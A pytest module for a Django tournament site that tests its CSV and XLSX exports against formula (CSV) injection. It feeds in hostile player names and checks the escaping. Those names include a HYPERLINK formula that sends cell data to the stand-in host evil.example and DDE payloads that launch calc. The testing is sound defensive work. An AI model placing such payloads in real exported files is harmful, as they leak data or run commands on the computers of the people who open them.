"""Formula injection in the downloads: a name a player or organiser typed must never become a
formula in the spreadsheet that opens it (OWASP "CSV injection"). Every route that answers
a CSV or XLSX file is found from the URL resolver and fetched with hostile names: no XLSX
cell is a formula, no CSV cell begins with = + @ tab or CR, and a CSV cell beginning with
"-" is a number the site wrote. The names still read as typed and the scores stay numbers."""

from __future__ import annotations

import ast
import csv
import io
import pathlib
import re

import openpyxl
import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from config import spreadsheets
from tournaments.clubs.services import seasons as writes
from tournaments.events.services.event import club_create
from tournaments.results.exports import EXPORTS

from .season_nights import play_night

pytestmark = pytest.mark.django_db

ROOT = pathlib.Path(__file__).resolve().parents[2]

#: A player's name holds no comma (scoring.names), so the link takes its one argument.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1)'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
#: Ordinary names, one with a true minus sign as the pages write a negative score.
ORDINARY = ["Dana", "\u22123 Emil"]
NIGHT = "=1+2 night"


def _routes(resolver=None, prefix=""):
    """Every URL pattern's (namespaced name, pattern text), through the includes."""
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{pattern.namespace}:" if pattern.namespace else ""
            yield from _routes(pattern, prefix + namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield prefix + pattern.name, str(pattern.pattern)


def spreadsheet_routes() -> set[str]:
    return {name for name, text in _routes() if re.search(r"csv|xlsx", text)}


@pytest.fixture
def hostile_night(django_user_model):
    """A club night whose players and name are formulas, closed, in a season of the club."""
    club = club_create(name="Evil club", slug="evil")
    event = play_night(club, NIGHT, [*HOSTILE, *ORDINARY], seed=5)
    season = writes.season_create(club=club, name="=Autumn[1]", best_nights=1, min_nights=1)
    writes.season_add_event(season, event)
    return event, season


def _organise_export(event, season, fmt):
    return [
        reverse("tournaments:organise_export", args=[event.slug, what, fmt]) for what in EXPORTS
    ]


def _season_export(event, season, fmt):
    return [reverse("tournaments:club_season_export", args=[season.club.slug, season.pk, fmt])]


#: Every route that answers a spreadsheet, and the addresses of its files for the night.
#: A new export route fails test_every_spreadsheet_route_is_covered until it is added here.
COVERED = {
    "tournaments:organise_export": _organise_export,
    "tournaments:club_season_export": _season_export,
}


def test_every_spreadsheet_route_is_covered():
    assert spreadsheet_routes() == set(COVERED)


def _files(hostile_night, fmt, superuser):
    client = Client()
    client.force_login(superuser)
    event, season = hostile_night
    for addresses in COVERED.values():
        for address in addresses(event, season, fmt):
            response = client.get(address)
            assert response.status_code == 200, address
            yield address, response.content


@pytest.fixture
def superuser(django_user_model):
    return django_user_model.objects.create_superuser(username="root", password=None)


def test_no_csv_cell_begins_a_formula(hostile_night, superuser):
    seen = set()
    for address, content in _files(hostile_night, "csv", superuser):
        cells = [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row
        ]
        for cell in cells:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (address, cell)
            if cell.startswith("-"):
                float(cell)  # a number the site wrote (a score), never a typed name
        seen.update(cells)
    # the names read as typed, after the apostrophe that keeps them text
    for name in HOSTILE:
        assert "'" + name in seen
    assert "'" + NIGHT in seen  # the night's column in the season's download
    assert set(ORDINARY) <= seen
    assert any(re.fullmatch(r"-\d+", cell) for cell in seen)  # negative scores stay numbers


def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(hostile_night, superuser):
    texts, numbers = set(), []
    for address, content in _files(hostile_night, "xlsx", superuser):
        for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (address, cell.coordinate, cell.value)
                if cell.data_type == "s":
                    texts.add(cell.value)
                elif cell.data_type == "n" and cell.value is not None:
                    numbers.append(cell.value)
    # text cells hold the names exactly as typed (no apostrophe in a text cell)
    assert {*HOSTILE, *ORDINARY, NIGHT} <= texts
    assert any(value < 0 for value in numbers)  # a score of -3 is a numeric cell


def test_the_rule_itself():
    assert spreadsheets.csv_cell("=1+1") == "'=1+1"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheets.csv_cell(f"{start}x") == f"'{start}x"
    assert spreadsheets.csv_cell("  =1+1") == "'  =1+1"  # leading spaces hide nothing
    for ordinary in ("Ana", "\u22123", "(5)", "", "O'Neil", "Ana-Maria"):
        assert spreadsheets.csv_cell(ordinary) == ordinary
    assert spreadsheets.csv_cell(-3) == -3 and spreadsheets.csv_cell(2.5) == 2.5
    assert spreadsheets.csv_cell(None) == ""


def test_an_xlsx_text_cell_beginning_with_a_formula_is_text_even_when_edited():
    rows = [[HYPERLINK, -3], ["#N/A", 2.5], ["Ana", None]]
    content = spreadsheets.rows_file("xlsx", ["Player", "Score"], rows, title="=x[1]")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    name, score = sheet[2]
    assert (name.data_type, name.value, name.quotePrefix) == ("s", HYPERLINK, True)
    assert (score.data_type, score.value) == ("n", -3)
    error, half = sheet[3]  # an error code is text too, and a float a number
    assert (error.data_type, error.value, error.quotePrefix) == ("s", "#N/A", False)
    assert (half.data_type, half.value) == ("n", 2.5)
    assert sheet["B4"].value is None
    assert sheet.title == "=x-1-" and sheet.freeze_panes == "A2" and sheet["A1"].font.bold


# The libraries that write spreadsheet files, and the calls that write CSV: only the one
# module that neutralises may use them, so that no new export can go around it.
WRITERS = {"tablib", "openpyxl", "django_tables2.export", "xlsxwriter", "odf"}
CSV_WRITERS = {"writer", "DictWriter"}


def _writers_used(path: pathlib.Path) -> list[str]:
    tree = ast.parse(path.read_text(), str(path))
    used = []
    for node in ast.walk(tree):
        names = []
        if isinstance(node, ast.Import):
            names = [alias.name for alias in node.names]
        elif isinstance(node, ast.ImportFrom) and node.module:
            names = [node.module] + [f"{node.module}.{alias.name}" for alias in node.names]
            if node.module == "csv":
                used += [alias.name for alias in node.names if alias.name in CSV_WRITERS]
        elif isinstance(node, ast.Attribute) and node.attr in CSV_WRITERS:
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                used.append(f"csv.{node.attr}")
        used += [
            name for name in names if any(name == w or name.startswith(w + ".") for w in WRITERS)
        ]
    return used


def test_only_the_one_module_writes_spreadsheets():
    home = ROOT / "config" / "spreadsheets.py"
    offenders = {}
    for package in ("config", "scoring", "tournaments", "engine"):
        for path in (ROOT / package).rglob("*.py"):
            if path == home or "migrations" in path.parts:
                continue
            used = _writers_used(path)
            if used:
                offenders[str(path.relative_to(ROOT))] = used
    assert offenders == {}
    assert _writers_used(home)  # the check sees what it looks for
